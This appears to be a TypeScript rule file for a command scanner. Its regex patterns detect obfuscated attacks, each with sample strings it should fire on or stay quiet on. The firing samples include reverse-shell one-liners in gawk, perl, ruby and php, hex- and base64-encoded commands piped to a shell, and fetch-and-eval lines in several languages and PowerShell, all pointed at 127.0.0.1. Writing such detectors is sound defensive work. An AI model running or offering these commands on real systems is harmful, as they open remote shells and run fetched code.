import { ATTACKING_SCRIPT, FETCHED_CODE } from '../rules.ts';
import type { Row } from './script-row.ts';

/** Commands that are not written as such, and programs of other languages within a line: nobody who reads it sees what runs. */
export const SPELT_ROWS: readonly Row[] = [
  {
    rule: ATTACKING_SCRIPT,
    // The files of awk that are connections: what comes over one is run.
    pattern: /\b[gmn]?awk\b[^\n]*\/inet[46]?\/(?:tcp|udp)\//,
    fires: [`gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/9";while((s|&getline c)>0)while((c|&getline)>0)print|&s}'`],
    quiet: [`awk '/inet / {print $2}'`],
  },
  {
    rule: ATTACKING_SCRIPT,
    // A connection and a shell in a program of one line.
    pattern:
      /\b(?:perl|ruby|php|lua|node|python[\d.]*)\b(?=[^\n]*\s-\w{0,3}[ecr]\b)(?=[^\n]*(?:IO::Socket|TCPSocket|fsockopen|socket\.socket|socket\.tcp|net\.(?:connect|Socket)|require\(\W{0,2}net\W{0,2}\)|use Socket))[^\n]*(?:fdopen|dup2|\/bin\/(?:ba|z|da)?sh\b|\bexec\b|\bsystem\b|\bproc_open\b|\bspawn\b)/,
    fires: [
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:9");STDIN->fdopen($c,r);system$_ while<>'`,
      `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("127.0.0.1",9);exec "/bin/sh"'`,
      `php -r '$s=fsockopen("127.0.0.1",9);exec("sh <&3 >&3 2>&3");'`,
    ],
    quiet: [
      `python -c 'import socket; print(socket.socket().getsockname())'`,
      `perl -e 'print "IO::Socket"'`,
      `php -r 'system("ls");'`,
    ],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Codes of letters that a shell is handed.
    pattern:
      /\b(?:printf|echo\s+-\w*e\w*)\s+["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){4}[^\n|]{0,1000}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bprintf\s+["']?\\{1,2}(?:x|0)?"?\$\w/i,
    fires: [`printf '\\x74\\x72\\x75\\x65' | sh`, 'for c in 74 72; do x=$x$(printf "\\x$c"); done'],
    quiet: [`printf '\\x1b[31mred\\x1b[0m' | tee log`, 'printf "%s\\n" "$x"'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // A text that a shell is handed after its letters were changed, or a command out of a format.
    pattern:
      /\becho\b[^\n|]*\|\s*(?:sed|rev|cut)\b[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\s*(?:$|[;&-])|\bawk\b[^\n]{0,40}\bprintf\s*"(?:%c)+[^\n]*\|\s*(?:ba|z|da)?sh\b|&\s*\(\s*["'](?:\{\d\}){2,}["']\s*-f\b/,
    fires: ["echo 'trXe' | sed s/X/u/ | sh", `awk 'BEGIN{printf "%c%c", 108, 115}' | sh`, `& ("{1}{0}" -f 'EX','I') x`],
    quiet: ['echo "$x" | sed s/a/b/ | sort', `awk '{printf "%c", $1}' x`, '"{0} of {1}" -f $a, $b'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // A program whose path has a place for any letter, or that is cut out of a variable of the system's.
    pattern:
      /(?:^|[;&|(`]|\$\()\s*\/(?:usr\/)?(?:local\/)?s?bin\/\w*\*\w*\s+\S|(?:^|[;&|(`]|\$\(|["']\s?)\s*\/(?:[\w?[\]*-]+\/)*[\w[\]*-]*\?[\w?[\]*-]*\s+\S|\$\{(?:PATH|HOME|SHELL|PWD|USER|BASH|LANG|OSTYPE|HOSTTYPE):\d{1,2}:\d\}/,
    fires: ['/usr/bin/cur? -s x', '/???/b??h -c x', '${PATH:0:1}bin${PATH:0:1}sh'],
    quiet: ['ls /data/shard-?.bin', 'echo ${PATH:0:20}', 'curl "https://example.org/x?y=1"'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // Programs of a line that decode what they then run.
    pattern:
      /\b(?:python[\d.]*|perl|ruby|node|php)(?:\s+-\S{1,40}){0,3}\s+-\w{0,3}[cer]\b[^\n]{0,200}\b(?:system|exec|eval|popen|Popen|spawn)\b[^\n]{0,80}(?:b64decode|decode_base64|base64_decode|Buffer\.from|unhexlify|fromhex|\bpack\b|decompress)/,
    fires: [
      `python3 -c "import base64,os;os.system(base64.b64decode('dHJ1ZQ=='))"`,
      `perl -MMIME::Base64 -e 'system(decode_base64("dHJ1ZQ=="))'`,
    ],
    quiet: [`python -c "import base64; print(base64.b64decode('dHJ1ZQ=='))"`],
  },
  {
    rule: ATTACKING_SCRIPT,
    pattern:
      /\beval\s*\(\s*(?:Buffer\.from|unescape|decodeURIComponent|String\.fromCharCode|base64_decode|gzinflate|parse\s*\([^\n]{0,80}(?:base64|rawToChar|chartr))/i,
    fires: ["eval(Buffer.from('MQ==','base64').toString())", 'eval(parse(text = rawToChar(base64decode("MQ=="))))'],
    quiet: ['const b = Buffer.from(x)', 'eval(parse(text = readLines(f)))'],
  },
  {
    rule: FETCHED_CODE,
    // Programs of a line, or of a script, that fetch what they then run.
    pattern:
      /\b(?:perl|ruby|php)(?:\s+-\S{1,40}){0,3}\s+-\w{0,3}[er]\b[^\n]{0,100}\beval\b[^\n]{0,80}\b(?:https?|ftp):|\bnode(?:\s+-\S{1,40}){0,3}\s+-e\b[^\n]{0,200}https?:[^\n]{0,200}\beval\s*\(|\b(?:deno|pipx|uvx?)\s+run\b[^\n]{0,80}\shttps?:|\bdownload\.file\([^\n]{0,120}\)\s*;\s*source\(|\beval[\s(]\s*(?:URI\.open|Net::HTTP\.get|open-uri|file_get_contents)[\s(]+(?:URI\s*\()?["']https?:|\bsource\s*\(\s*(?:url\s*\()?\s*["']https?:|\binclude\s*\(\s*download\s*\(|\brun\s*\(\s*pipeline\s*\(\s*`(?:curl|wget)\b|\bhttp get\b[^\n|]*\|\s*save\b[^\n;]*;\s*\^/,
    fires: [
      `perl -MLWP::Simple -e 'eval get("http://127.0.0.1:9/x")'`,
      `php -r "eval(file_get_contents('http://127.0.0.1:9/x'));"`,
      "source(url('http://127.0.0.1:9/x.R'))",
      'include(download("http://127.0.0.1:9/x.jl"))',
      'run(pipeline(`curl http://127.0.0.1:9/x`, `sh`))',
    ],
    quiet: ["read.csv(url('https://example.org/x.csv'))", 'include("model.jl")', "perl -pe 's#https://a#https://b#'"],
  },
  {
    rule: FETCHED_CODE,
    // R: a connection that is opened, and read as a program in the same line.
    pattern: /\b(\w{1,40})\s*(?:<-|=)\s*url\s*\(\s*["']https?:[^\n]{1,400}\bsource\s*\(\s*\1\b/,
    fires: ['con <- url("http://127.0.0.1:9/a.R"); source(con)'],
    quiet: ['con <- url("https://example.org/a.csv"); read.csv(con)'],
  },
  {
    rule: FETCHED_CODE,
    followed: true,
    // Whatever fetches: what an address says is run.
    pattern: /\bhttps?:\/\/[^\s|]+\s*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/i,
    fires: ['bring http://127.0.0.1:9/x | sh'],
    quiet: ['bring http://127.0.0.1:9/x | sort'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // PowerShell: names out of letters' numbers, and what an alias of fetching brings.
    pattern:
      /\[char(?:\[\])?\]\s*\(?\s*\d{2,3}\b[^\n]{0,80}(?:-join|\+|%\s*\{)|\b(?:iex|invoke-expression)\b[^\n]{0,40}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b|\bNet\.Sockets\.TCPClient\b[^\n]*\b(?:iex|invoke-expression)\b/i,
    fires: [
      "[char[]](73,69,88) -join '' | % { & $_ x }",
      'iex (irm http://127.0.0.1:9/x)',
      "$c=New-Object Net.Sockets.TCPClient('a',1); iex $d",
    ],
    quiet: ['[char]0x2713', "$c = New-Object Net.Sockets.TCPClient('localhost', 8000)", 'irm https://example.org/x'],
  },
  {
    rule: ATTACKING_SCRIPT,
    // A configuration of nginx whose Lua starts programs.
    pattern: /_by_lua\w*\b[^\n]*\b(?:os\.execute|io\.popen)\b/,
    fires: ["content_by_lua_block { os.execute('true') }"],
    quiet: ['content_by_lua_block { ngx.say(1) }'],
  },
];
